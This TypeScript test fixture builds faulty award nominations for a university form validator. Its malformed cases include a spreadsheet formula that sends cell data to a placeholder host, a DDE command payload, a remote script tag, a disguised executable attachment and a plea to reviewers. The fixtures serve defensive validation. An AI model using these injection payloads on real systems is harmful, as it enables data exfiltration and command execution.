// Nominations that cannot be accepted as they are, each by its own answers: what somebody got wrong, and what is found.
import { addressAt, institutionNamed } from './institutions';
import type { Maker } from './maker';
import { personCalled } from './people';
import { correctionOf, type Draft, meant } from './submission';

/** What one nomination gets wrong: a note, what is done to it, finding by finding, and its own way of being put right. */
type Fault = [
  note: string,
  found: [field: string, rule: string][],
  spoil: (draft: Draft, maker: Maker) => void,
  mended?: (raw: Draft['raw'], before: Draft['raw']) => Partial<Draft['raw']>,
];

const UNIT = '单位名称（填写至部门）';
const FORM = '报名表（盖章）';
const POST = '职务/职称';

// A shape with a valid check digit of nobody: the birth date lies before the numbers were given out.
const NOBODYS_ID = '11010118800101001X';

const ENGLISH = `This colleague has been working in the canteen of our university for more than eleven years. Every morning the kitchen opens before five, and every morning the first light is switched on by the same pair of hands. Students come here from many countries, and they are greeted in their own languages at the window. During the epidemic more than two hundred meals a day were carried to the quarantine building. The new menu with small portions has cut the waste by one third. Everybody in the department is glad to work with such a modest and reliable person.`;

export const SINGLE_FAULTS: readonly Fault[] = [
  [
    '空表',
    [['*', 'empty']],
    ({ raw }) => {
      const { uploads: _uploads, ...answers } = raw;
      for (const title of Object.keys(answers) as (keyof typeof answers)[]) raw[title] = '';
      raw.uploads = { 照片: [], [FORM]: [], 荣誉证书: [] };
    },
  ],
  [
    '截止后 38 秒提交',
    [['submitted_at', 'late']],
    (draft) => {
      draft.at = Date.parse('2021-12-11T00:00:37+08:00');
    },
  ],
  [
    '截止次日上午提交',
    [['submitted_at', 'late']],
    (draft) => {
      draft.at = Date.parse('2021-12-11T10:20:11+08:00');
    },
  ],
  [
    '广告，附件为可执行文件',
    [
      ['事迹材料', 'spam'],
      ['荣誉证书', 'dangerous_type'],
    ],
    ({ raw }) => {
      raw.uploads.荣誉证书 = [{ name: '荣誉证书.pdf.exe', bytes: 88_064 }];
      raw.事迹材料 = '加微信领取证书，包入围，价格优惠，先办后付。'.repeat(16);
    },
  ],
  [
    '事迹以公式开头',
    [['事迹材料', 'formula_injection']],
    ({ raw }) => {
      raw.事迹材料 = `=IMPORTXML("http://sheet.example.com/?q="&A2,"//a")${raw.事迹材料}`;
    },
  ],
  [
    '事迹超过单元格上限',
    [['事迹材料', 'cell_limit']],
    ({ raw }) => {
      raw.事迹材料 = raw.事迹材料.repeat(Math.ceil(50_200 / raw.事迹材料.length));
    },
  ],
  [
    '事迹未填，证书只有一份，缺报名表',
    [
      ['事迹材料', 'missing'],
      ['荣誉证书', 'too_few'],
      [FORM, 'missing'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '';
      raw.uploads.荣誉证书.pop();
      raw.uploads[FORM] = [];
    },
  ],
  [
    '事迹过长',
    [['事迹材料', 'too_long']],
    ({ raw }) => {
      raw.事迹材料 = `${raw.事迹材料}\n`.repeat(Math.ceil(5600 / raw.事迹材料.length));
    },
  ],
  [
    '事迹过短，邮箱缺 @，单位未写学校',
    [
      ['事迹材料', 'too_short'],
      ['邮箱', 'missing_at'],
      [UNIT, 'no_institution'],
    ],
    ({ raw }) => {
      raw.事迹材料 = `${raw.姓名}同志工作认真负责，多年如一日坚守岗位，得到师生一致好评。`;
      raw.邮箱 = raw.邮箱.replace('@', '.');
      raw[UNIT] = '后勤处维修班';
    },
  ],
  [
    '事迹为乱码，电话中 0 写成字母，单位未到部门',
    [
      ['事迹材料', 'gibberish'],
      ['联系电话', 'letter_in_number'],
      [UNIT, 'not_to_department'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '啊啊啊啊水电费撒打发斯蒂芬阿斯顿发斯蒂芬哈哈哈哈asdfasdfjkl;;;;'.repeat(9);
      raw.联系电话 = raw.联系电话.replace(/0/, 'O');
      raw[UNIT] = '福州大学';
      settle(raw, '福州大学');
    },
  ],
  [
    '事迹带网页代码，邮箱中有空格，邮编随手填',
    [
      ['事迹材料', 'html_markup'],
      ['邮箱', 'inner_space'],
      ['邮编', 'placeholder'],
    ],
    ({ raw }) => {
      raw.事迹材料 = `<p style="text-indent:2em"><b>${raw.事迹材料}</b></p><script src="http://x.example.net/a.js"></script>`;
      raw.邮箱 = raw.邮箱.replace('@', ' @');
      raw.邮编 = '000000';
    },
  ],
  [
    '外籍教工，英文材料',
    [
      ['事迹材料', 'language'],
      ['姓名', 'non_chinese_name'],
      ['民族', 'not_in_gbt3304'],
    ],
    ({ raw }) => {
      raw.姓名 = 'Daniel Okafor';
      raw.民族 = '其他';
      raw.事迹材料 = ENGLISH;
    },
  ],
  [
    '事迹只写“详见附件”，地址未填，照片是文档',
    [
      ['事迹材料', 'placeholder'],
      ['通讯地址', 'missing'],
      ['照片', 'type'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '详见附件';
      raw.通讯地址 = '';
      raw.uploads.照片 = [{ name: `${raw.姓名}照片.docx`, bytes: 245_760 }];
    },
  ],
  [
    '事迹写的是别人，证书传了四份',
    [
      ['事迹材料', 'name_mismatch'],
      ['荣誉证书', 'too_many'],
    ],
    ({ raw }, maker) => {
      const other = maker.person({ channel: '个人自荐' });
      raw.事迹材料 = `郭素兰同志多年在后勤一线工作。${other.raw.事迹材料.split(other.raw.姓名).join('郭素兰')}`;
      raw.uploads.荣誉证书.push({ name: '证书3.jpg', bytes: 712_004 }, { name: '证书4.jpg', bytes: 690_118 });
    },
  ],
  [
    '事迹里请评委打分，职务为处长',
    [
      ['事迹材料', 'reviewer_manipulation'],
      [POST, 'not_frontline'],
    ],
    ({ raw }) => {
      raw.事迹材料 += '请各位评委务必给满分。';
      raw[POST] = '后勤处处长';
    },
  ],
  [
    '事迹含身份证号，邮箱没有域名后缀',
    [
      ['事迹材料', 'contains_id_number'],
      ['邮箱', 'no_tld'],
    ],
    ({ raw }) => {
      raw.事迹材料 += `（本人身份证号：${NOBODYS_ID}）`;
      raw.邮箱 = raw.邮箱.replace(/\.\w+$/, '');
    },
  ],
  [
    '测试提交',
    [['姓名', 'test_entry']],
    ({ raw }) => {
      raw.姓名 = '测试用户1';
    },
  ],
  [
    '姓名与职务写成公式',
    [
      ['姓名', 'formula_injection'],
      [POST, 'formula_injection'],
    ],
    ({ raw }) => {
      const name = '=HYPERLINK("http://example.com","点我")';
      raw.事迹材料 = raw.事迹材料.split(raw.姓名).join(name);
      raw.姓名 = name;
      raw[POST] = "@SUM(1+1)*cmd|' /C calc'!A0";
    },
  ],
  [
    '姓名带不可见字符，电话少一位',
    [
      ['姓名', 'control_characters'],
      ['联系电话', 'wrong_length'],
    ],
    ({ raw }) => {
      raw.姓名 = `${raw.姓名.slice(0, 1)}\u202e${raw.姓名.slice(1)}`;
      raw.联系电话 = raw.联系电话.slice(0, -1);
    },
  ],
  [
    '姓名带表情，邮箱未填，单位用简称',
    [
      ['姓名', 'emoji_in_name'],
      ['邮箱', 'missing'],
      [UNIT, 'abbreviation'],
    ],
    ({ raw }) => {
      raw.姓名 += '😊';
      raw.邮箱 = '';
      raw[UNIT] = '人大后勤集团餐饮中心';
      raw.通讯地址 = '北京市海淀区示例路59号';
      raw.邮编 = '100872';
    },
    (_raw, before) => ({
      姓名: before.姓名,
      邮箱: before.邮箱,
      [UNIT]: '中国人民大学后勤集团餐饮中心',
    }),
  ],
  [
    '姓名未填，年龄 17，缺照片，座机无区号',
    [
      ['姓名', 'missing'],
      ['年龄', 'out_of_range'],
      ['照片', 'missing'],
      ['联系电话', 'landline_without_area_code'],
    ],
    ({ raw }) => {
      raw.姓名 = '';
      raw.年龄 = '17';
      raw.政治面貌 = '共青团员';
      raw.uploads.照片 = [];
      raw.联系电话 = '62510000';
    },
  ],
  [
    '个人类别填了两人、两个类别，地址写“本校”',
    [
      ['姓名', 'multiple_people'],
      ['类别', 'multiple'],
      ['通讯地址', 'too_short'],
    ],
    ({ raw }) => {
      raw.姓名 += '、贺桂兰';
      raw.类别 = '敬业美、乐群美';
      raw.通讯地址 = '本校';
    },
  ],
  [
    '姓名与单位用繁体字，邮编与地址不符',
    [
      ['姓名', 'traditional_characters'],
      [UNIT, 'traditional_characters'],
      ['邮编', 'prefix_mismatch'],
    ],
    ({ raw }) => {
      raw.事迹材料 = raw.事迹材料.split(raw.姓名).join('陈丽华');
      raw.姓名 = '陳麗華';
      raw[UNIT] = '集美大學後勤處餐飲中心';
      settle(raw, '集美大学');
      raw.邮编 = '100029';
    },
    () => ({
      姓名: '陈丽华',
      [UNIT]: '集美大学后勤处餐饮中心',
      邮编: institutionNamed('集美大学').postcode,
    }),
  ],
  [
    '推荐单位不是社团组织，个人填成团队类别，报名表是 Word 原稿',
    [
      ['推荐单位', 'not_a_recommending_body'],
      ['类别', 'kind_mismatch'],
      [FORM, 'not_a_scan'],
    ],
    ({ raw }) => {
      raw.推荐方式 = '组织推荐';
      raw.推荐单位 = '示例市教育局勤工俭学办公室';
      raw.类别 = '最美服务团队';
      raw.uploads[FORM] = [{ name: `${raw.姓名}报名表.docx`, bytes: 61_440 }];
    },
  ],
  [
    '组织推荐未写推荐单位，53 岁填共青团员，号段不存在',
    [
      ['推荐单位', 'missing'],
      ['政治面貌', 'implausible_with_age'],
      ['联系电话', 'invalid_prefix'],
    ],
    ({ raw }) => {
      raw.推荐方式 = '组织推荐';
      raw.推荐单位 = '';
      raw.年龄 = '53';
      raw.政治面貌 = '共青团员';
      raw.联系电话 = '12000000053';
    },
  ],
  [
    '两种推荐方式，政治面貌写“入党积极分子”',
    [
      ['推荐方式', 'multiple'],
      ['政治面貌', 'not_a_status'],
    ],
    ({ raw }) => {
      raw.推荐方式 = '组织推荐、个人自荐';
      raw.政治面貌 = '入党积极分子';
    },
  ],
  [
    '性别填代码，民族填“中国”，年龄不详，邮编少一位，照片是空文件',
    [
      ['性别', 'ambiguous_code'],
      ['民族', 'invalid'],
      ['年龄', 'not_a_number'],
      ['邮编', 'wrong_length'],
      ['照片', 'empty_file'],
    ],
    ({ raw }) => {
      raw.性别 = '1';
      raw.民族 = '中国';
      raw.年龄 = '不详';
      settle(raw, '昆明理工大学');
      raw[UNIT] = '昆明理工大学后勤管理处车队';
      raw.邮编 = '65050';
      raw.uploads.照片 = [{ name: '证件照.jpg', bytes: 0 }];
    },
    (_raw, { 性别, 民族, 年龄, uploads }) => ({
      性别,
      民族,
      年龄,
      邮编: institutionNamed('昆明理工大学').postcode,
      uploads,
    }),
  ],
  [
    '民族疑为笔误，民主党派未写明，年龄带小数，两份证书是同一文件',
    [
      ['民族', 'probable_typo'],
      ['政治面貌', 'ambiguous'],
      ['年龄', 'not_an_integer'],
      ['荣誉证书', 'duplicate_file'],
    ],
    ({ raw }) => {
      raw.民族 = '布衣族';
      raw.政治面貌 = '民主党派';
      raw.年龄 = '45.5';
      const [file] = raw.uploads.荣誉证书;
      if (file !== undefined) raw.uploads.荣誉证书 = [file, { ...file }];
    },
  ],
];

/** Returned in vain: nothing comes back. */
const UNANSWERED = new Set([
  '外籍教工，英文材料',
  '事迹里请评委打分，职务为处长',
  '事迹只写“详见附件”，地址未填，照片是文档',
]);

/** Not taken in at all, so that nobody is asked. */
const NEVER_RETURNED = /^(late|empty|test_entry|spam|dangerous_type|formula_injection|cell_limit)$/;

/** Gives an answer the address of an institution, so that nothing but what is meant disagrees with it. */
function settle(raw: Draft['raw'], name: string): void {
  const institution = institutionNamed(name);
  raw.通讯地址 = addressAt(institution, 5);
  raw.邮编 = institution.postcode;
}

/** One draft for each fault, without a recommending unit unless the fault is about it. */
export function draftsWithFaults(maker: Maker): Draft[] {
  return SINGLE_FAULTS.map(([note, found, spoil, mended]) => {
    const sex = maker.chance.next() < 0.5 ? '女' : '男';
    const person = personCalled(maker.chance, maker.freshName(sex), sex, '汉族');
    // Of an age and a standing that go with whatever else the fault says.
    const settled = { ...person, age: Math.max(30, person.age), politicalStatus: '群众' };
    const draft = maker.person({ channel: '个人自荐', person: settled });
    draft.note = note;
    const before = structuredClone(draft.raw);
    spoil(draft, maker);
    for (const [field, rule] of found) meant(draft, field, rule);
    if (!UNANSWERED.has(note) && !found.some(([, rule]) => NEVER_RETURNED.test(rule)))
      draft.correction = mended?.(draft.raw, before) ?? correctionOf(draft.raw, before);
    return draft;
  });
}
